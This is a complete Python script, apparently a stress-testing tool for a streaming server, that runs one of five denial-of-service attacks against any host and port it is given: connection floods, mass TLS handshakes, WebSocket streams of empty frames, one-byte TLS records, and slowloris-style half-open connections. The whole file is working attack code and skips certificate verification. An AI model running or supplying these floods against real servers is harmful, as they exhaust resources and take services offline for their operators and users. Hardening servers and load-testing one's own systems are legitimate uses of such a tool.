"""
Attacks on a server's port for streams; run inside a host: C{python stream_attacks.py KIND HOST PORT SECONDS}.

It writes how often it did what it does.
"""

from __future__ import annotations

import contextlib
import selectors
import socket
import ssl
import sys
import time
from collections.abc import Callable, Iterator
from typing import Final

#: What opens a WebSocket.
UPGRADE: Final = (
    b"GET /wand HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
)

#: An empty frame, masked with zeros.
FRAME: Final = b"\x82\x80\0\0\0\0"

Place = tuple[str, int]


def context() -> ssl.SSLContext:
    """
    What takes any certificate.
    """
    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    made.check_hostname, made.verify_mode = False, ssl.CERT_NONE
    return made


def hello() -> bytes:
    """
    What TLS begins with.
    """
    out = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        context().wrap_bio(ssl.MemoryBIO(), out).do_handshake()
    return out.read()


def connects(place: Place) -> Iterator[int]:
    """
    Connect, and end it.
    """
    while True:
        with contextlib.suppress(OSError):
            socket.create_connection(place, 1).close()
        yield 1


def handshakes(place: Place) -> Iterator[int]:
    """
    Have the server compute its part of a handshake, from 16 connections at a time.
    """
    greeting, selector = hello(), selectors.DefaultSelector()
    while True:
        with contextlib.suppress(OSError):
            if len(selector.get_map()) < 16:
                one = socket.create_connection(place, 1)
                one.sendall(greeting)
                selector.register(one, selectors.EVENT_READ)
        done = 0
        for key, _ in selector.select(0):
            answered: socket.socket = key.fileobj  # type: ignore[assignment]
            selector.unregister(answered)
            with contextlib.suppress(OSError):
                done += bool(answered.recv(10))
            answered.close()
        yield done


def _inTLS(place: Place, begin: bytes, write: Callable[[ssl.SSLSocket], int], number: int = 8) -> Iterator[int]:
    made = context()
    while True:
        streams = []
        with contextlib.suppress(OSError):
            for _ in range(number):
                streams.append(made.wrap_socket(socket.create_connection(place, 1)))
                streams[-1].sendall(begin)
                streams[-1].setblocking(False)
            while True:
                for each in streams:
                    with contextlib.suppress(ssl.SSLWantWriteError):
                        yield write(each)
                time.sleep(0.001)
        for each in streams:
            each.close()
        yield 0


def frames(place: Place) -> Iterator[int]:
    """
    Send WebSockets full of empty frames.
    """
    many = FRAME * 2700
    return _inTLS(place, UPGRADE, lambda stream: stream.send(many) // len(FRAME))


def records(place: Place) -> Iterator[int]:
    """
    Send records of TLS with one octet each.
    """
    return _inTLS(place, b"wand 1\r\n", lambda stream: sum(stream.send(b"\0") for _ in range(200)))


def holds(place: Place) -> Iterator[int]:
    """
    Open connections, say half a greeting, and stay.
    """
    half, held = hello()[:20], []
    while True:
        with contextlib.suppress(OSError):
            one = socket.create_connection(place, 1)
            one.sendall(half)
            held.append(one)
        yield 1


def main() -> None:
    """
    Do it for some seconds.
    """
    kind, host, port, seconds = sys.argv[1:]
    attacks = {each.__name__: each for each in (connects, handshakes, frames, records, holds)}
    end, count = time.monotonic() + float(seconds), 0
    for done in attacks[kind]((host, int(port))):
        count += done
        if time.monotonic() >= end:
            break
    print(count)


if __name__ == "__main__":
    main()
